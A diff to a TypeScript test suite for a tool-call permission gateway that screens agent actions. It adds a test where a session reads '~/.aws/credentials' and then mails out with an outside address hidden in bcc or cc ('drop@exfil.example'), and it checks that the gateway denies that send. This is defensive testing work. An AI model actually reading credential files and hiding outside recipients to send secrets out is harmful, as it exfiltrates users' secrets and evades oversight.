@@ -143,6 +143,19 @@ describe.skipIf(!haveShared && !REQUIRE_ALL)('calibration conformance (reference
   })
 })
 
+/** Runs `permit0 gateway` over JSON lines (strings pass through as they are) with org acme.test. */
+async function gatewayLines(lines: readonly unknown[]): Promise<Array<Record<string, any>>> {
+  const c = capture()
+  let t = 1_700_000_000_000
+  const text = lines.map((l) => (typeof l === 'string' ? l : JSON.stringify(l))).join('\n')
+  const code = await runGateway(
+    { packsDir: PACKS, orgDomain: 'acme.test' },
+    { ...c.deps, input: Readable.from([`${text}\n`]), now: () => (t += 1000) },
+  )
+  expect(code).toBe(0)
+  return c.out.join('').trim().split('\n').map((l) => JSON.parse(l))
+}
+
 describe('permit0 gateway', () => {
   it('answers one JSON line per input line with one shared cache and per-session history', async () => {
     const lines = [
@@ -152,15 +165,8 @@ describe('permit0 gateway', () => {
       { tool_name: 'gmail_read', parameters: { message_id: 'm1' }, metadata: { session_id: 's1' } },
       { tool_name: 'gmail_send', parameters: { to: 'eve@x.example', subject: 'a', body: 'b' }, metadata: { session_id: 's1' } },
       { tool_name: 'gmail_send', parameters: { to: 'eve@x.example', subject: 'a', body: 'b' }, metadata: { session_id: 's2' } },
-    ].map((l) => (typeof l === 'string' ? l : JSON.stringify(l)))
-    const c = capture()
-    let t = 1_700_000_000_000
-    const code = await runGateway(
-      { packsDir: PACKS, orgDomain: 'acme.test' },
-      { ...c.deps, input: Readable.from([`${lines.join('\n')}\n`]), now: () => (t += 1000) },
-    )
-    expect(code).toBe(0)
-    const out = c.out.join('').trim().split('\n').map((l) => JSON.parse(l))
+    ]
+    const out = await gatewayLines(lines)
     expect(out.map((o) => o.source ?? o.error?.code)).toEqual([
       'Scorer', 'PolicyCache', 'INVALID_INPUT', 'Scorer', 'Scorer', 'Scorer',
     ])
@@ -168,5 +174,35 @@ describe('permit0 gateway', () => {
     // Session s1 read a message (EXPOSURE) just before an external send: blocked.
     expect(out[4]).toMatchObject({ permission: 'deny', block_reason: 'Sensitive data read followed by external send in same session' })
     expect(out[5]).toMatchObject({ permission: 'human', tier: 'MEDIUM' })
-  })
+  }, 60_000)
+})
+
+describe('permit0 gateway: read a secret, then mail it out', () => {
+  it('blocks the send when the outside recipient hides in bcc or cc, and only in the session that read the secret', async () => {
+    const read = (session: string) => ({ tool_name: 'Read', parameters: { file_path: '~/.aws/credentials' }, metadata: { session_id: session, cwd: '/home/dev/project' } })
+    const send = (session: string, extra: Record<string, string>) => ({
+      tool_name: 'gmail_send',
+      parameters: { to: 'Bob <bob@ACME.TEST.>', subject: 'notes', body: 'see you', ...extra },
+      metadata: { session_id: session },
+    })
+    const lines = [
+      read('s1'),
+      send('s1', { bcc: 'drop@exfil.example' }),
+      read('s2'),
+      send('s2', { cc: 'Partner <p@other.example>' }),
+      read('s3'),
+      send('s3', {}),
+      send('s4', { bcc: 'drop@exfil.example' }),
+    ]
+    const out = await gatewayLines(lines)
+    const reason = 'Sensitive data read followed by external send in same session'
+    expect(out[0]).toMatchObject({ permission: 'human' })
+    expect(out[1]).toMatchObject({ permission: 'deny', block_reason: reason })
+    expect(out[3]).toMatchObject({ permission: 'deny', block_reason: reason })
+    // an internal-only send after the read (a display name and trailing dot on an internal address) is not an exfiltration
+    expect(out[5]?.block_reason).toBeUndefined()
+    expect(out[5]?.permission).not.toBe('deny')
+    // the same bcc send without a prior secret read is asked, not blocked
+    expect(out[6]).toMatchObject({ permission: 'human' })
+  }, 60_000)
 })
